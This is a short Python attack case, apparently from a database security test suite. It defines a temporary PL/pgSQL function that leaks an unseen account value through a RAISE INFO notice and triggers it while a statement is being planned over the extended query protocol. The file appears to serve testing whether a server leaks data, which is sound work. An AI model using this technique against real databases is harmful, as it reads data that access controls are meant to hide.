"""Has a value sent in a notice while a statement is planned."""

from attacks.frames import FLUSH, SYNC, ask, bind, parse, query
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        ask(
            client,
            query(
                b"CREATE FUNCTION pg_temp.tell(int) RETURNS int IMMUTABLE LANGUAGE plpgsql AS"
                b" $$ BEGIN RAISE INFO '%', account_unseen($1); RETURN 1; END $$"
            ),
        )
        return ask(client, parse(b"SELECT pg_temp.tell(1)"), bind(), FLUSH, SYNC)
